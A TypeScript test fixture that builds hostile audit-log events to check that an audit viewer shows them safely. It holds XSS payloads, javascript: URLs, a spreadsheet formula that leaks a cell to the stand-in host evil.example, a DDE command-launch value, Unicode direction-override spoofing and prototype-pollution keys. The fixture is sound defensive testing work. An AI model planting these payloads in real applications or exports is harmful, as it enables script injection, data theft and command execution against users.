import type { AuditLogEventInput } from '../contract/input-types.js';

/** Every marker a hostile event tries to run; a page that shows them must never see one fire. */
export const HOSTILE_MARKER = '__auditHostileRan';

const probe = `window.${HOSTILE_MARKER}=1`;
const html = `<img src=x onerror="${probe}"><script>${probe}</script>`;
const handler = `" autofocus onfocus="${probe}" x="`;
const url = `javascript:${probe}`;
const formula = `=HYPERLINK("http://evil.example/?"&A1,"click")`;
const rtl = '\u202Egnp.exe\u202C invoice \u2067\u05D0\u05D1\u05D2\u2069';
const megabyte = 'A'.repeat(1_048_576);
const longWord = 'x'.repeat(100_000);

function nested(depth: number): Record<string, unknown> {
  let node: Record<string, unknown> = { leaf: html };
  for (let level = 1; level < depth; level += 1) node = { [`level${depth - level}`]: node };
  return node;
}

// Built with JSON.parse so `__proto__` is an own key, as it is when it arrives over the wire.
const pollution = JSON.parse(
  `{"__proto__":{"polluted":"${HOSTILE_MARKER}"},"constructor":{"prototype":{"polluted":"${HOSTILE_MARKER}"}},"toString":"${html.replaceAll('"', '\\"')}"}`,
) as Record<string, unknown>;

/**
 * Events built to break an audit viewer: markup and event handlers in every text field,
 * `javascript:` URLs, spreadsheet formulas, Unicode direction overrides, a 1 MiB description,
 * an unbroken 100 kB word, metadata nested to the limit and prototype-pollution keys. Each
 * is valid for the API, so it is stored and shown like any other event; a safe UI shows it
 * as text, keeps its layout, never runs it (`window.__auditHostileRan` stays unset) and
 * exports it neutralised.
 */
export const HOSTILE_EVENTS: readonly AuditLogEventInput[] = [
  {
    event_type: 'user_action',
    severity: 'critical',
    action: html,
    resource_type: `<script>${probe}</script>`,
    resource_id: handler,
    description: html,
    user_id: `<b onmouseover="${probe}">mallory</b>`,
    ip_address: '"><svg onload=alert(1)>',
    session_id: url,
    correlation_id: 'hostile-chain',
    user_agent: html,
    metadata: { href: url, html, before: { role: html }, after: { role: url } },
  },
  {
    event_type: 'data_modification',
    severity: 'error',
    action: formula,
    resource_type: '=1+1',
    resource_id: '+cmd|" /C calc"!A0',
    description: `-2+3 ${formula}\n@SUM(1)\r\n\t=evil()`,
    user_id: '@mallory',
    correlation_id: 'hostile-chain',
    metadata: { formula, cells: ['=1', '+1', '-1', '@1'] },
  },
  {
    event_type: 'authentication',
    severity: 'warning',
    action: rtl,
    resource_type: rtl,
    description: `${rtl} ${rtl}`,
    user_id: rtl,
    correlation_id: 'hostile-chain',
    metadata: { [rtl]: rtl },
  },
  {
    event_type: 'system_event',
    severity: 'info',
    action: 'huge.description',
    resource_type: longWord.slice(0, 255),
    description: megabyte,
    metadata: { word: longWord },
  },
  {
    event_type: 'api_call',
    severity: 'debug',
    action: 'deep.metadata',
    resource_type: 'document',
    description: 'Metadata nested to the deepest level the API accepts',
    metadata: nested(31),
  },
  {
    event_type: 'data_access',
    severity: 'info',
    action: 'prototype.keys',
    resource_type: '__proto__',
    resource_id: 'constructor',
    description: '__proto__ constructor prototype',
    metadata: pollution,
  },
];
